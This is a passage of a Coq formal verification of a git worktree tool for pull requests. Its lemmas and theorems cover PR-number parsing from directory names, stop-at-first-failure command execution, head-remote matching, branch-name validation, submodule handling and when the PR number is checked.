Proof.
  intros Hd Hrest. induction digits as [|c digits IH].
  - simpl. destruct rest as [|c rest]; [reflexivity|]. simpl. now rewrite Hrest.
  - apply andb_true_iff in Hd as [Hc Hd]. cbn [String.append fmt.scanNumber].
    now rewrite Hc, (IH Hd).
Qed.

Lemma SkipSpace_plain (fuel : nat) (c : ascii) (s : string) :
  spec.plainByte c = true -> fmt.SkipSpace fuel (String c s) = Ok (String c s).
Proof.
  intros Hc. destruct fuel as [|fuel]; [reflexivity|].
  cbn [fmt.SkipSpace]. now rewrite leading_plain.
Qed.

Lemma digitVal_range (c : ascii) :
  strconv.isDigit c = true -> (0 <= strconv.digitVal c <= 9)%Z.
Proof.
  unfold strconv.isDigit, strconv.digitVal. cbv zeta.
  intros [H1 H2]%andb_true_iff. apply Nat.leb_le in H1, H2. lia.
Qed.

Lemma parseDigits_nonneg (s : string) (a w : Z) :
  (0 <= a)%Z -> strconv.parseDigits a s = Some w -> (0 <= w)%Z.
Proof.
  revert a. induction s as [|c s IH]; intros a Ha; cbn [strconv.parseDigits].
  - now intros [= <-].
  - destruct (strconv.isDigit c) eqn:Hc; [|discriminate].
    apply IH. pose proof (digitVal_range c Hc). lia.
Qed.

(** [Sscanf] with [%d] reads the digits a string starts with and leaves
    the rest unread. *)
Lemma Sscanf_d_digits (digits rest : string) (v : Z) :
  digits <> "" ->
  all strconv.isDigit digits = true ->
  strconv.parseDigits 0 digits = Some v ->
  (v <= strconv.maxInt)%Z ->
  match rest with String c _ => strconv.isDigit c = false | "" => True end ->
  fmt.Sscanf_d (digits +:+ rest) = Ok v.
Proof.
  intros Hne Hd Hp Hv Hrest.
  assert (H0 : (0 <= v)%Z) by (now apply (parseDigits_nonneg digits 0%Z v)).
  unfold fmt.Sscanf_d.
  destruct digits as [|c digits]; [contradiction|].
  pose proof Hd as [Hc _]%andb_true_iff.
  cbn [String.append]. rewrite SkipSpace_plain by now apply isDigit_plain.
  destruct (isDigit_no_sign c Hc) as [Hm Hpl]. rewrite Hm, Hpl. cbn [orb].
  change (String c (digits +:+ rest)) with (String c digits +:+ rest).
  rewrite scanNumber_digits by assumption.
  change ("" +:+ String c digits) with (String c digits).
  apply (Atoi_digits (String c digits) v); [discriminate | assumption | assumption | lia].
Qed.

End ScanFacts.

Section NamingFacts.
Import strings worktree.

Lemma prNumberByName_suffix (repoName suffix : string) :
  suffix <> "" ->
  prNumberByName repoName (repoName +:+ "-pr" +:+ suffix)
  = match fmt.Sscanf_d suffix with
    | Ok prNumber => Some prNumber
    | Err _ => None
    end.
Proof.
  intros Hne. unfold prNumberByName.
  rewrite <- (str_app_assoc repoName "-pr" suffix).
  rewrite HasPrefix_app, str_drop_app, (len_app (repoName +:+ "-pr") suffix).
  replace (_ <? _)%nat with true; [reflexivity|].
  symmetry. apply Nat.ltb_lt. destruct suffix; [contradiction|].
  unfold len at 3. cbn [String.length]. lia.
Qed.

(** X6. The naming test of the listings reads the digits that follow
    [<repo>-pr] and takes no notice of what comes after them: a base name
    [<repo>-pr<digits><rest>] counts as the worktree of pull request
    [<digits>], whatever [rest] is. *)
Theorem prNumberByName_prefix_scan (repoName digits rest : string) (v : Z) :
  digits <> "" ->
  all strconv.isDigit digits = true ->
  strconv.parseDigits 0 digits = Some v ->
  (v <= strconv.maxInt)%Z ->
  match rest with String c _ => strconv.isDigit c = false | "" => True end ->
  prNumberByName repoName (repoName +:+ "-pr" +:+ digits +:+ rest) = Some v.
Proof.
  intros Hne Hd Hp Hv Hrest.
  rewrite prNumberByName_suffix.
  - now rewrite (Sscanf_d_digits digits rest v).
  - destruct digits; [contradiction | discriminate].
Qed.

(** X7. The base name GeneratePath gives the worktree of pull request
    [n], [<repo>-pr<n>], is read back as [n] by the naming test. *)
Theorem prNumberByName_of_generated (repoName : string) (n : Z) :
  (0 <= n <= strconv.maxInt)%Z ->
  prNumberByName repoName (repoName +:+ "-pr" +:+ strconv.Itoa n) = Some n.
Proof.
  intros Hn. unfold strconv.Itoa. cbv zeta.
  destruct (digitsOf_digits (S (Z.to_nat (Z.abs n))) (Z.to_nat (Z.abs n)))
    as (Hne & Hall & Hparse); [lia|].
  replace (n <? 0)%Z with false by (symmetry; apply Z.ltb_ge; lia).
  rewrite prNumberByName_suffix by exact Hne.
  rewrite <- (str_app_nil_r (strconv.digitsOf _ _ "")).
  rewrite (Sscanf_d_digits _ "" n); auto; [|lia].
  rewrite Hparse. f_equal. lia.
Qed.

End NamingFacts.

(** The directory the branch pr12-fix gets, and one of a pull request. *)
Lemma prNumberByName_prefix_scan_witness :
  worktree.prNumberByName "my-repo" "my-repo-pr12-fix" = Some 12%Z
  /\ worktree.prNumberByName "my-repo" "my-repo-pr42" = Some 42%Z.
Proof.
  split.
  - apply (prNumberByName_prefix_scan "my-repo" "12" "-fix" 12);
      [discriminate | reflexivity | reflexivity | vm_compute; discriminate | reflexivity].
  - apply (prNumberByName_prefix_scan "my-repo" "42" "" 42);
      [discriminate | reflexivity | reflexivity | vm_compute; discriminate | exact I].
Defined.

Lemma prNumberByName_of_generated_witness :
  worktree.prNumberByName "my-repo" ("my-repo" +:+ "-pr" +:+ strconv.Itoa 42) = Some 42%Z.
Proof.
  apply (prNumberByName_of_generated "my-repo" 42). vm_compute. split; discriminate.
Defined.

(** ** Running a queue of commands *)

Section ExecuteFacts.
Context {World : Type} `{System World}.
Import strings.

(** X8. Running a queue that is the concatenation of two queues is
    running the first and, when that succeeds, the second from where the
    first has left off; when the first fails, its error is the result and
    nothing of the second is run. *)
Theorem ExecuteCommands_sequential (xs ys : list (list string)) (m : Machine World) :
  git.ExecuteCommands (xs ++ ys) m
  = match git.ExecuteCommands xs m with
    | (None, m1) => git.ExecuteCommands ys m1
    | (Some err, m1) => (Some err, m1)
    end.
Proof.
  revert m. induction xs as [|args xs IH]; intros m; [reflexivity|].
  cbn [app git.ExecuteCommands]. unfold bind.
  destruct (Run args m) as [[] m1]; [apply IH | reflexivity].
Qed.

Lemma Run_eq (args : list string) (m : Machine World) :
  Run args m
  = (fst (git_Run args (world m)),
     {| world := snd (git_Run args (world m)); gitlog := gitlog m ++ [args] |}).
Proof. unfold Run. now destruct (git_Run args (world m)). Qed.

Lemma runsOk_app (before rest : list (list string)) (w : World) :
  spec.runsOk (before ++ rest) w
  = spec.runsOk before w && spec.runsOk rest (spec.worldAfter before w).
Proof.
  revert w. induction before as [|b before IH]; intros w; [reflexivity|].
  cbn [app spec.runsOk spec.worldAfter].
  destruct (git_Run b w) as [ok w']. cbn [snd]. rewrite IH. apply andb_assoc.
Qed.

Lemma ExecuteCommands_outcome (cmds : list (list string)) (m : Machine World) :
  match git.ExecuteCommands cmds m with
  | (None, m') =>
      spec.runsOk cmds (world m) = true
      /\ world m' = spec.worldAfter cmds (world m)
      /\ gitlog m' = gitlog m ++ cmds
  | (Some err, m') =>
      exists before args after,
        cmds = before ++ args :: after
        /\ spec.runsOk before (world m) = true
        /\ fst (git_Run args (spec.worldAfter before (world m))) = false
        /\ err = spec.failureOf args
        /\ world m' = snd (git_Run args (spec.worldAfter before (world m)))
        /\ gitlog m' = gitlog m ++ before ++ [args]
  end.
Proof.
  revert m. induction cmds as [|args cmds IH]; intros m.
  - cbn [git.ExecuteCommands spec.runsOk spec.worldAfter]. unfold ret.
    rewrite List.app_nil_r. auto.
  - cbn [git.ExecuteCommands]. unfold bind. rewrite Run_eq.
    cbn [spec.runsOk spec.worldAfter].
    destruct (git_Run args (world m)) as [ok w] eqn:E. cbn [fst snd].
    destruct ok.
    + specialize (IH {| world := w; gitlog := gitlog m ++ [args] |}).
      destruct (git.ExecuteCommands cmds _) as [[err|] m'].
      * destruct IH as (before & a & after & -> & Hok & Hfail & -> & Hw & Hl).
        exists (args :: before), a, after. cbn [world gitlog] in *.
        cbn [app spec.runsOk spec.worldAfter]. rewrite E. cbn [fst snd andb].
        repeat split; auto. now rewrite Hl, <- List.app_assoc.
      * cbn [world gitlog] in IH. destruct IH as (Hok & Hw & Hl).
        repeat split; auto. now rewrite Hl, <- List.app_assoc.
    + unfold ret. exists [], args, cmds. cbn [app spec.runsOk spec.worldAfter].
      rewrite E. repeat split.
Qed.

(** X9. ExecuteCommands runs the commands in order up to the first that
    fails.  It returns nil exactly when every command succeeds; otherwise
    the error names the first command that fails, that command is the
    last one run and the commands after it are not run. *)
Theorem ExecuteCommands_first_failure (cmds : list (list string)) (m m' : Machine World)
    (r : option error) :
  git.ExecuteCommands cmds m = (r, m') ->
  (r = None <-> spec.runsOk cmds (world m) = true)
  /\ (r = None -> spec.commandsRun m m' = cmds)
  /\ (forall err, r = Some err ->
        exists before args after,
          cmds = before ++ args :: after
          /\ spec.runsOk before (world m) = true
          /\ fst (git_Run args (spec.worldAfter before (world m))) = false
          /\ err = spec.failureOf args
          /\ spec.commandsRun m m' = before ++ [args]).
Proof.
  intros E. pose proof (ExecuteCommands_outcome cmds m) as Hout. rewrite E in Hout.
  destruct r as [err|].
  - destruct Hout as (before & args & after & Hc & Hok & Hfail & He & _ & Hl).
    split; [|split].
    + split; [discriminate|]. intros Hall. exfalso. subst cmds.
      rewrite runsOk_app in Hall. apply andb_true_iff in Hall as [_ Hall].
      cbn [spec.runsOk] in Hall.
      destruct (git_Run args _) as [ok w']. cbn [fst] in Hfail. now subst ok.
    + discriminate.
    + intros ? [= <-]. exists before, args, after.
      repeat split; auto. now apply commandsRun_app.
  - destruct Hout as (Hok & _ & Hl). split; [|split].
    + now split.
    + intros _. now apply commandsRun_app.
    + discriminate.
Qed.

End ExecuteFacts.

(** In the simulated world the branch nope does not exist: the probe for
    it fails, and the command after it is not run. *)
Lemma ExecuteCommands_first_failure_witness :
  let probe := ["show-ref"; "--verify"; "--quiet"; "refs/heads/nope"] in
  let cmds := [ ["fetch"; "origin"]; probe; ["worktree"; "prune"] ] in
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (git.ExecuteCommands cmds m) in
  git.ExecuteCommands cmds m = (Some (spec.failureOf probe), m')
  /\ exists before args after,
       cmds = before ++ args :: after
       /\ spec.runsOk before (world m) = true
       /\ fst (git_Run args (spec.worldAfter before (world m))) = false
       /\ spec.failureOf probe = spec.failureOf args
       /\ spec.commandsRun m m' = before ++ [args].
Proof.
  intros probe cmds m m'.
  assert (E : git.ExecuteCommands cmds m = (Some (spec.failureOf probe), m'))
    by (vm_compute; reflexivity).
  split; [exact E|].
  exact (proj2 (proj2 (ExecuteCommands_first_failure cmds m m' _ E)) _ eq_refl).
Defined.

(** ** The head remote, and what Create checks first *)

Section HeadRemoteFacts.
Import strings worktree.

Lemma Contains_nil (s : string) : Contains s "" = true.
Proof. unfold Contains. rewrite Index_unfold, HasPrefix_nil. reflexivity. Qed.

Lemma remoteFor_Some (owner name : string) (rs : list git.Remote) (r : git.Remote) :
  remoteFor owner name rs = Some r ->
  Contains (git.URL r) owner && Contains (git.URL r) name = true
  /\ exists before after,
       rs = before ++ r :: after
       /\ forall r', In r' before ->
            Contains (git.URL r') owner && Contains (git.URL r') name = false.
Proof.
  induction rs as [|x rs IH]; [discriminate|]. cbn [remoteFor].
  destruct (Contains (git.URL x) owner && Contains (git.URL x) name) eqn:E.
  - intros [= <-]. split; [exact E|]. exists [], rs. split; [reflexivity|]. intros ? [].
  - intros Hr. destruct (IH Hr) as (Hm & before & after & -> & Hb).
    split; [exact Hm|]. exists (x :: before), after. split; [reflexivity|].
    intros r' [<-|Hin]; auto.
Qed.

Lemma remoteFor_None (owner name : string) (rs : list git.Remote) :
  remoteFor owner name rs = None
  <-> forall r, In r rs -> Contains (git.URL r) owner && Contains (git.URL r) name = false.
Proof.
  induction rs as [|x rs IH]; cbn [remoteFor].
  - split; [intros _ ? [] | reflexivity].
  - destruct (Contains (git.URL x) owner && Contains (git.URL x) name) eqn:E.
    + split; [discriminate|]. intros Hall. specialize (Hall x (or_introl eq_refl)). congruence.
    + rewrite IH. split.
      * intros Hall r [<-|Hin]; auto.
      * intros Hall r Hin. apply Hall. now right.
Qed.

(** X10. The head remote is the first remote whose URL contains both the
    login of the owner and the name of the head repository of the pull
    request, as substrings; there is none exactly when no remote has such
    a URL. *)
Theorem findHeadRemote_first_match (c : Creator) (pr : github.PullRequest) :
  (forall r, findHeadRemote c pr = Some r ->
     spec.headMatches pr r = true
     /\ exists before after,
          remotes c = before ++ r :: after
          /\ forall r', In r' before -> spec.headMatches pr r' = false)
  /\ (findHeadRemote c pr = None
      <-> forall r, In r (remotes c) -> spec.headMatches pr r = false).
Proof.
  unfold findHeadRemote, spec.headMatches. split.
  - intros r. apply remoteFor_Some.
  - apply remoteFor_None.
Qed.

(** X11. When the pull request names no head repository (its name and
    the login of its owner are empty, as for a fork that has been
    deleted), every URL matches: the head remote is the first remote of
    the list, whatever it points to. *)
Theorem findHeadRemote_of_missing_fork (c : Creator) (pr : github.PullRequest) :
  github.Name (github.Repo (github.Head pr)) = "" ->
  github.Login (github.Owner (github.Repo (github.Head pr))) = "" ->
  findHeadRemote c pr = head (remotes c).
Proof.
  intros Hn Hl. unfold findHeadRemote. rewrite Hn, Hl.
  destruct (remotes c) as [|r rs]; [reflexivity|].
  cbn [remoteFor head]. now rewrite Contains_nil.
Qed.

End HeadRemoteFacts.

Lemma findHeadRemote_of_missing_fork_witness :
  let gone := {| github.Number := 7; github.Title := "Gone";
                 github.Head := {| github.Ref := "patch-1";
                                   github.Repo := {| github.Name := "";
                                                     github.Owner := {| github.Login := "" |} |} |};
                 github.Base := {| github.BaseRepo := {| github.FullName := "acme/my-repo" |} |};
                 github.MaintainerCanModify := false |} in
  worktree.findHeadRemote sim.creator gone = Some sim.origin.
Proof.
  intros gone.
  exact (findHeadRemote_of_missing_fork sim.creator gone eq_refl eq_refl).
Defined.

Section CreateMoreFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** X12. Create checks the head ref of the pull request and the branch it
    is to create the worktree on before it runs anything: when either is
    not a valid branch name, Create fails and no command has been run. *)
Theorem Create_validates_first (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m : Machine World) :
  validate.BranchName (github.Ref (github.Head pr)) <> None
  \/ validate.BranchName (spec.branchFor pr opts) <> None ->
  exists err, Create c path pr opts m = (Some err, m).
Proof.
  intros Hbad. unfold Create. fold (spec.branchFor pr opts).
  destruct (findBaseRemote c) as [baseRemote|]; [|eexists; reflexivity].
  destruct (if negb (String.eqb _ _) then findHeadRemote c pr else Some baseRemote)
    as [headRemote|].
  - unfold bind, cmdsForExistingRemote.
    destruct (validate.BranchName (github.Ref (github.Head pr))); [eexists; reflexivity|].
    destruct (validate.BranchName (spec.branchFor pr opts)); [eexists; reflexivity|].
    now destruct Hbad.
  - unfold cmdsForMissingRemote.
    destruct (validate.PRNumber _); [eexists; reflexivity|].
    destruct (validate.BranchName (spec.branchFor pr opts)); [eexists; reflexivity|].
    destruct (validate.BranchName (github.Ref (github.Head pr))); [eexists; reflexivity|].
    now destruct Hbad.
Qed.

End CreateMoreFacts.

(** The head ref [-x] is no valid branch name. *)
Lemma Create_validates_first_witness :
  let bad := {| github.Number := 7; github.Title := "Odd";
                github.Head := {| github.Ref := "-x";
                                  github.Repo := {| github.Name := "my-repo";
                                                    github.Owner := {| github.Login := "acme" |} |} |};
                github.Base := {| github.BaseRepo := {| github.FullName := "acme/my-repo" |} |};
                github.MaintainerCanModify := false |} in
  let m := sim.start (sim.repoWorld ∅) in
  exists err, worktree.Create sim.creator "/w/my-repo-pr7" bad sim.plain m = (Some err, m).
Proof.
  intros bad m.
  apply (Create_validates_first sim.creator "/w/my-repo-pr7" bad sim.plain m).
  left. vm_compute. discriminate.
Defined.

(** ** What Create runs, and when it checks the number *)

Section CreateQueueFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** Create either fails before it has run anything, or synthesizes a
    batch (for the head remote, or for the base remote when there is no
    head remote) and runs the queue made of it. *)
Lemma Create_queue (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m m' : Machine World) (r : option error) :
  Create c path pr opts m = (r, m') ->
  (r <> None /\ m' = m)
  \/ exists cmds m1,
       ((exists headRemote,
           cmdsForExistingRemote c headRemote pr opts path (spec.branchFor pr opts) m
           = (Ok cmds, m1))
        \/ (m1 = m
            /\ exists baseRemote,
                 cmdsForMissingRemote c pr baseRemote opts path (spec.branchFor pr opts)
                 = Ok cmds))
       /\ runQueue c path pr opts cmds m1 = (r, m').
Proof.
  unfold Create. fold (spec.branchFor pr opts).
  destruct (findBaseRemote c) as [baseRemote|]; [|intros [= <- <-]; left; auto].
  destruct (if negb (String.eqb _ _) then findHeadRemote c pr else Some baseRemote)
    as [headRemote|].
  - unfold bind.
    destruct (cmdsForExistingRemote c headRemote pr opts path (spec.branchFor pr opts) m)
      as [[cmds|e] m1] eqn:E.
    + intros Hq. right. exists cmds, m1. split; [left; eauto | exact Hq].
    + apply existing_Err in E as ->. intros [= <- <-]. left. auto.
  - destruct (cmdsForMissingRemote c pr baseRemote opts path (spec.branchFor pr opts))
      as [cmds|e] eqn:E.
    + intros Hq. right. exists cmds, m. split; [right; eauto | exact Hq].
    + intros [= <- <-]. left. auto.
Qed.

Lemma existing_shape (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m m1 : Machine World)
    (cmds : list (list string)) :
  cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m1) ->
  exists probe,
    gitlog m1 = gitlog m ++ probe
    /\ Forall spec.notSubmodule probe
    /\ Forall spec.notSubmodule cmds
    /\ Forall spec.notProbe cmds
    /\ Exists spec.addsWorktree cmds.
Proof.
  intros E. apply cmdsForExistingRemote_Ok in E as (_ & _ & E). cbv zeta in E.
  destruct (Detach opts).
  - destruct E as [-> ->]. exists []. rewrite List.app_nil_r.
    split; [reflexivity|]. split; [constructor|].
    split; [repeat constructor; discriminate|].
    split; [repeat constructor; discriminate|].
    apply Exists_cons_tl, Exists_cons_hd. reflexivity.
  - destruct E as [-> ->]. eexists. split; [apply BranchExists_log|].
    split; [repeat constructor; discriminate|].
    destruct (fst (git.BranchExists branch m)); [destruct (Force opts)|];
      (split; [repeat constructor; discriminate|]);
      (split; [repeat constructor; discriminate|]);
      apply Exists_cons_tl, Exists_cons_hd; reflexivity.
Qed.

Lemma missing_shape (c : Creator) (pr : github.PullRequest) (baseRemote : git.Remote)
    (opts : CheckoutOptions) (path branch : string) (cmds : list (list string)) :
  cmdsForMissingRemote c pr baseRemote opts path branch = Ok cmds ->
  Forall spec.notSubmodule cmds /\ Exists spec.addsWorktree cmds.
Proof.
  intros E. apply cmdsForMissingRemote_Ok in E as (_ & _ & _ & E). cbv zeta in E.
  destruct (Detach opts).
  - subst cmds. split; [repeat constructor; discriminate|].
    apply Exists_cons_tl, Exists_cons_hd. reflexivity.
  - destruct E as [_ ->]. split.
    + destruct (spec.pushable pr); repeat constructor; discriminate.
    + apply Exists_cons_tl, Exists_cons_hd. reflexivity.
Qed.

Lemma metadata_notSubmodule (path : string) (pr : github.PullRequest) :
  Forall spec.notSubmodule (spec.metadataCmds path pr).
Proof. repeat constructor; discriminate. Qed.

Lemma commandsRun_same (m : Machine World) : spec.commandsRun m m = [].
Proof. apply commandsRun_app. now rewrite List.app_nil_r. Qed.

(** What Create has run: nothing, or a probe for the branch at most,
    followed by the part of the queue that ExecuteCommands and storePRMetadata
    got through. *)
Lemma Create_run (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m m' : Machine World) (r : option error) :
  Create c path pr opts m = (r, m') ->
  (r <> None /\ spec.commandsRun m m' = [])
  \/ exists probe cmds ran rest,
       Forall spec.notSubmodule probe
       /\ Forall spec.notSubmodule cmds
       /\ Exists spec.addsWorktree cmds
       /\ (cmds ++ (if RecurseSubmodules opts then submoduleCmds else []))
          ++ spec.metadataCmds path pr = ran ++ rest
       /\ spec.commandsRun m m' = probe ++ ran
       /\ (r = None -> rest = []).
Proof.
  intros E. apply Create_queue in E as [[Hr ->] | (cmds & m1 & Hbatch & Hq)].
  { left. split; [exact Hr | apply commandsRun_same]. }
  right. apply runQueue_log in Hq as (ran & rest & Hsplit & Hl & Hr).
  destruct Hbatch as [[headRemote E] | [-> [baseRemote E]]].
  - apply existing_shape in E as (probe & Hl1 & Hp & Hc & _ & Ha).
    exists probe, cmds, ran, rest. repeat split; auto.
    apply commandsRun_app. now rewrite Hl, Hl1, <- List.app_assoc.
  - apply missing_shape in E as [Hc Ha].
    exists [], cmds, ran, rest. repeat split; auto. now apply commandsRun_app.
Qed.

(** X13. Without RecurseSubmodules, Create runs no [git submodule]
    command, whatever the outcome.  With it, a run that succeeds ends
    with the two submodule commands (sync, then update) followed by the
    two writes of the metadata, and no submodule command comes before. *)
Theorem submodules_only_on_request (c : Creator) (path : string)
    (pr : github.PullRequest) (opts : CheckoutOptions) (m m' : Machine World)
    (r : option error) :
  Create c path pr opts m = (r, m') ->
  (RecurseSubmodules opts = false -> Forall spec.notSubmodule (spec.commandsRun m m'))
  /\ (RecurseSubmodules opts = true -> r = None ->
      exists front,
        Forall spec.notSubmodule front
        /\ spec.commandsRun m m'
           = front ++ [ ["submodule"; "sync"; "--recursive"];
                        ["submodule"; "update"; "--init"; "--recursive"] ]
             ++ spec.metadataCmds path pr).
Proof.
  intros E.
  apply Create_run in E
    as [[Hr ->] | (probe & cmds & ran & rest & Hp & Hc & _ & Hsplit & -> & Hr)].
  { split; [constructor | intros _ ->; contradiction]. }
  split.
  - intros Hno. rewrite Hno, List.app_nil_r in Hsplit.
    apply Forall_app. split; [exact Hp|].
    assert (Hall : Forall spec.notSubmodule (ran ++ rest)).
    { rewrite <- Hsplit. apply Forall_app. split; [exact Hc | apply metadata_notSubmodule]. }
    now apply Forall_app in Hall as [? _].
  - intros Hyes ->. rewrite (Hr eq_refl), List.app_nil_r, Hyes in Hsplit. subst ran.
    exists (probe ++ cmds). split; [apply Forall_app; auto|].
    unfold submoduleCmds. now rewrite <- !List.app_assoc.
Qed.

Lemma ExecuteCommands_succeeds (cmds : list (list string)) (m : Machine World) :
  spec.commandsSucceed ->
  Forall spec.notProbe cmds ->
  exists m', git.ExecuteCommands cmds m = (None, m') /\ gitlog m' = gitlog m ++ cmds.
Proof.
  intros Hok Hcmds. revert m. induction Hcmds as [|args cmds Ha _ IH]; intros m.
  - exists m. now rewrite List.app_nil_r.
  - cbn [git.ExecuteCommands]. unfold bind. rewrite Run_eq, Hok by exact Ha.
    destruct (IH {| world := snd (git_Run args (world m)); gitlog := gitlog m ++ [args] |})
      as (m' & E & Hl).
    exists m'. split; [exact E|]. rewrite Hl. cbn [gitlog]. now rewrite <- List.app_assoc.
Qed.

Lemma queue_notProbe (opts : CheckoutOptions) (cmds : list (list string)) :
  Forall spec.notProbe cmds ->
  Forall spec.notProbe (cmds ++ (if RecurseSubmodules opts then submoduleCmds else [])).
Proof.
  intros Hc. apply Forall_app. split; [exact Hc|].
  destruct (RecurseSubmodules opts); repeat constructor; discriminate.
Qed.

Lemma existing_total (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m : Machine World) :
  validate.BranchName (github.Ref (github.Head pr)) = None ->
  validate.BranchName branch = None ->
  exists cmds m1, cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m1).
Proof.
  intros Hh Hb. unfold cmdsForExistingRemote. rewrite Hh, Hb.
  destruct (Detach opts); [eexists _, _; reflexivity|].
  unfold bind. destruct (git.BranchExists branch m) as [[] m1];
    [destruct (Force opts)|]; eexists _, _; reflexivity.
Qed.

(** X14. The number of the pull request is checked at different times in
    the two modes.  With no head remote a number out of range makes Create
    fail before anything is run.  With a head remote the number is only
    checked when the metadata is stored: when the git commands of the queue succeed,
    Create has fetched and added the worktree by then, and fails with
    "failed to store PR metadata: invalid PR number". *)
Theorem Create_number_checked_last (c : Creator) (path : string)
    (pr : github.PullRequest) (opts : CheckoutOptions) (m : Machine World)
    (baseRemote : git.Remote) (e : error) :
  findBaseRemote c = Some baseRemote ->
  validate.BranchName (github.Ref (github.Head pr)) = None ->
  validate.BranchName (spec.branchFor pr opts) = None ->
  validate.PRNumber (github.Number pr) = Some e ->
  (spec.headRemoteFor c pr = None ->
   Create c path pr opts m
   = (Some (Wrap "failed to create commands for missing remote"
              (Wrap "invalid PR number" e)), m))
  /\ (forall headRemote,
        spec.headRemoteFor c pr = Some headRemote ->
        spec.commandsSucceed ->
        exists m',
          Create c path pr opts m
          = (Some (Wrap "failed to store PR metadata" (Wrap "invalid PR number" e)), m')
          /\ Exists spec.addsWorktree (spec.commandsRun m m')).
Proof.
  intros Hbase Hhead Hbranch Hnum.
  unfold spec.headRemoteFor, spec.isCrossRepo. rewrite Hbase.
  unfold Create. fold (spec.branchFor pr opts). rewrite Hbase.
  destruct (negb (String.eqb _ _)).
  - split.
    + intros ->. unfold cmdsForMissingRemote. now rewrite Hnum.
    + intros headRemote -> Hok.
      destruct (existing_total c headRemote pr opts path _ m Hhead Hbranch)
        as (cmds & m1 & E).
      unfold bind. rewrite E.
      apply existing_shape in E as (probe & Hl1 & _ & _ & Hnp & Ha).
      unfold runQueue, bind.
      destruct (ExecuteCommands_succeeds
                  (cmds ++ (if RecurseSubmodules opts then submoduleCmds else [])) m1 Hok
                  (queue_notProbe opts cmds Hnp))
        as (m2 & -> & Hl2).
      unfold storePRMetadata. rewrite Hhead, Hnum. unfold ret.
      exists m2. split; [reflexivity|].
      rewrite (commandsRun_app m m2 (probe ++ cmds
                 ++ (if RecurseSubmodules opts then submoduleCmds else []))).
      * apply Exists_app. right. apply Exists_app. now left.
      * now rewrite Hl2, Hl1, <- !List.app_assoc.
  - split; [discriminate|].
    intros headRemote [= <-] Hok.
    destruct (existing_total c baseRemote pr opts path _ m Hhead Hbranch)
      as (cmds & m1 & E).
    unfold bind. rewrite E.
    apply existing_shape in E as (probe & Hl1 & _ & _ & Hnp & Ha).
    unfold runQueue, bind.
    destruct (ExecuteCommands_succeeds
                (cmds ++ (if RecurseSubmodules opts then submoduleCmds else [])) m1 Hok
                (queue_notProbe opts cmds Hnp))
      as (m2 & -> & Hl2).
    unfold storePRMetadata. rewrite Hhead, Hnum. unfold ret.
    exists m2. split; [reflexivity|].
    rewrite (commandsRun_app m m2 (probe ++ cmds
               ++ (if RecurseSubmodules opts then submoduleCmds else []))).
    + apply Exists_app. right. apply Exists_app. now left.
    + now rewrite Hl2, Hl1, <- !List.app_assoc.
Qed.

End CreateQueueFacts.

(** Pull request 43 checked out with its submodules. *)
Lemma submodules_only_on_request_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m) in
  worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m = (None, m')
  /\ exists front,
       Forall spec.notSubmodule front
       /\ spec.commandsRun m m'
          = front ++ [ ["submodule"; "sync"; "--recursive"];
                       ["submodule"; "update"; "--init"; "--recursive"] ]
            ++ spec.metadataCmds "/w/my-repo-pr43" sim.pr43.
Proof.
  intros m m'.
  assert (E : worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.renamed m
              = (None, m'))
    by (apply injective_projections; [vm_compute; reflexivity | reflexivity]).
  split; [exact E|].
  exact (proj2 (submodules_only_on_request sim.creator "/w/my-repo-pr43" sim.pr43
                  sim.renamed m m' None E) eq_refl eq_refl).
Defined.

Lemma sim_commandsSucceed : @spec.commandsSucceed sim.World sim.system.
Proof.
  intros args w Hne. unfold spec.notProbe in Hne.
  destruct args as [|a [|b [|c [|d [|e [|f args]]]]]]; try reflexivity.
  - cbn [git_Run sim.system sim.run].
    destruct (String.eqb_spec a "show-ref") as [->|]; [now destruct Hne | reflexivity].
  - cbn [git_Run sim.system sim.run]. now destruct (_ && _).
Qed.

(** A pull request from the repository itself whose number is 0. *)
Lemma Create_number_checked_last_witness :
  let pr0 := {| github.Number := 0; github.Title := "Tidy up";
                github.Head := github.Head sim.pr43; github.Base := github.Base sim.pr43;
                github.MaintainerCanModify := false |} in
  let m := sim.start (sim.repoWorld ∅) in
  exists m',
    worktree.Create sim.creator "/w/my-repo-pr0" pr0 sim.plain m
    = (Some (Wrap "failed to store PR metadata"
               (Wrap "invalid PR number" (Errorf "invalid PR number: 0"))), m')
    /\ Exists spec.addsWorktree (spec.commandsRun m m').
Proof.
  intros pr0 m.
  apply (proj2 (Create_number_checked_last sim.creator "/w/my-repo-pr0" pr0 sim.plain m
                  sim.origin (Errorf "invalid PR number: 0")
                  eq_refl eq_refl eq_refl eq_refl) sim.origin eq_refl).
  exact sim_commandsSucceed.
Defined.

(** ** Worktree types and promotion *)

Section TypeFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma GetRoot_Err (m : Machine World) (e : error) :
  fst (git.GetRoot m) = Err e -> git.GetRoot m = (Err e, m).
Proof. intros E. apply injective_projections; [exact E | apply GetRoot_state]. Qed.

(** X15. GetWorktreeType only reads.  Once the git root is found it
    never fails: the type key, when present, gives the type, whatever the
    PR-number key holds; when the type key is absent, the type is "pr" if
    the PR-number key holds a value that is not blank, and unset
    otherwise. *)
Theorem GetWorktreeType_resolution (branch root : string) (m : Machine World) :
  fst (git.GetRoot m) = Ok root ->
  exists t,
    GetWorktreeType branch m = (Ok t, m)
    /\ (forall v, spec.keyHolds root (spec.typeKey branch) v (world m) -> t = v)
    /\ (spec.keyAbsent root (spec.typeKey branch) (world m) ->
        (t = "pr" \/ t = "")
        /\ (t = "pr"
            <-> exists v, spec.keyHolds root (spec.prNumberKey branch) v (world m)
                          /\ v <> "")).
Proof.
  intros Hroot. unfold GetWorktreeType, bind.
  rewrite (GetRoot_eq m root Hroot), GetConfig_eq.
